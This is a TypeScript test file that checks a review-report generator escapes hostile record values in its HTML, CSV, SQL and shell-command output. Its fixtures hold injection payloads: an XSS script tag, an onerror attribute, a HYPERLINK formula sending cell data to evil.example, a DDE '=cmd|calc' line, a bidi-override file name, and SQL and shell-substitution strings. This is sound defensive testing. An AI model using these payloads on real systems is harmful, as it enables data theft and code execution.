import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StoredEvent } from '../../src/core/event.ts';
import { csvText } from '../../src/report/csv.ts';
import { plain, shellCommand } from '../../src/report/html/format.ts';
import { createReview } from '../../src/report/review.ts';
import { text } from '../../src/report/sql.ts';
import type { Engine } from '../../src/store/client.ts';
import { openWorld, worldEvents, worldInput } from './world.ts';

const script = '<script>alert(1)</script>';
const attribute = '"><img src=x onerror=alert(1)>';
const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const override = 'safe\u202efdp.exe';
const lines = 'a\r\n=cmd|calc!A0';
const sql = "x' OR 1=1 -- \\";

let engine: Engine;
let folder = '';
let review: Awaited<ReturnType<typeof createReview>>['review'];

/** The world with hostile words wherever a record, a header or a catalog can put them. */
function hostileEvents(): StoredEvent[] {
  const words = [script, attribute, formula, override, lines, sql, '+1', '-1', '@x', '\t=1'];
  return worldEvents().map((event, i) => {
    const word = words[i % words.length] as string;
    return {
      ...event,
      stream: event.stream === 's1' ? "s1'<b>" : event.stream,
      actor_name: word,
      actor_role: word,
      identity: `${word}${event.identity}`,
      secret: `${word}${event.secret}`,
      owner: word,
      team: word,
      network: word,
      outcome_reason: word,
      object_store: word,
      auth_method: word,
      object_account: word,
    };
  });
}

beforeAll(async () => {
  engine = await openWorld(hostileEvents());
  const input = worldInput();
  const streams = input.completeness.streams.map((s) => (s.stream === 's1' ? { ...s, stream: "s1'<b>" } : s));
  const identities = [{ identity: `${sql}${script}`, kind: formula, team: attribute, until: lines }];
  const made = await createReview(engine, {
    ...input,
    catalog: { ...input.catalog, identities, namedSecrets: [`${sql}${formula}`], rotateEveryDays: () => 30 },
    completeness: { ...input.completeness, streams, checkpoint: script, findings: [script] },
    outDir: mkdtempSync(join(tmpdir(), 'keywitness-hostile-')),
  });
  ({ folder, review } = made);
});
afterAll(() => engine.close());

const read = (name: string) => readFileSync(join(folder, name), 'utf8');

/** A small reader of RFC 4180, written for this test alone. */
function csvCells(content: string): string[] {
  const cells: string[] = [];
  for (const m of content.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g)) {
    cells.push(m[1] === undefined ? (m[2] ?? '') : m[1].replaceAll('""', '"'));
  }
  return cells;
}

describe('words of a record are words only', () => {
  it('no word becomes an element, an attribute or a script of the page', () => {
    const html = read('review.html');
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<b>'/);
    const tags = new Set([...html.matchAll(/<([a-zA-Z0-9]+)/g)].map((m) => m[1]));
    for (const tag of ['script', 'img', 'iframe', 'object', 'link', 'form'])
      expect(tags.has(tag), tag).toBe(false);
    expect([...html.matchAll(/<[^>]*\son[a-z]+=/gi)]).toEqual([]);
    expect(html).toContain('&lt;script');
  });

  it('nothing turns the reading direction or hides', () => {
    expect(read('review.html')).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b-\u200f]/);
    expect(read('review.html')).toContain('safe\\u202efdp.exe');
  });

  it('the page loads nothing and links only to its own files', () => {
    const html = read('review.html');
    const links = [...html.matchAll(/\s(?:href|src)="([^"]*)"/g)].map((m) => m[1] as string);
    expect(links.length).toBeGreaterThan(10);
    for (const link of links) expect(link).toMatch(/^(#[a-z-]+|[a-z-]+\.csv)$/);
  });

  it('no cell of any CSV file is a formula', () => {
    const files = readdirSync(folder).filter((f) => f.endsWith('.csv'));
    expect(files.length).toBeGreaterThanOrEqual(7);
    let quoted = 0;
    for (const file of files) {
      for (const cell of csvCells(read(file))) {
        expect(cell, file).not.toMatch(/^[\s]*[=+\-@]/);
        if (cell.startsWith("'")) quoted++;
      }
    }
    expect(quoted).toBeGreaterThan(10);
  });

  it('the statements that ran were not bent: each line of the world is still counted once', () => {
    expect(review.figures.row).toMatchObject({ acts: 23, value_returned: 9, denied: 4 });
    expect(review.sections.find((s) => s.id === 'completeness')?.rows.map((r) => r.disagreement)).toEqual([
      'agree',
      'agree',
    ]);
    expect(review.sections.find((s) => s.id === 'dormant')?.rows.map((r) => r.identity)).toContain(
      `${sql}${script}`,
    );
  });
});

describe('laws', () => {
  it('a CSV cell never begins like a formula, and otherwise reads back as it was', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (word) => {
        const content = csvText([{ key: 'k', label: '', kind: 'text' }], [{ k: word }]);
        const cell = csvCells(content.slice('k\r\n'.length))[0] ?? '';
        expect(cell).not.toMatch(/^\s*[=+\-@]/);
        expect(cell === word || cell === `'${word}`).toBe(true);
      }),
    );
  });

  it('the engine reads a quoted text as the text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'grapheme' }), async (word) => {
        const [row] = await engine.rows(`SELECT ${text(word)} AS word`);
        expect(row?.word).toBe(word);
      }),
      { numRuns: 50 },
    );
  });

  it('a printed command is one word to the shell and shows no control character', () => {
    expect(shellCommand("SELECT '$HOME', \"`id`\", '\\\\'")).toBe(
      'keywitness query "SELECT \'\\$HOME\', \\"\\`id\\`\\", \'\\\\\\\\\'"',
    );
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (word) => {
        expect(plain(word)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
      }),
    );
  });
});
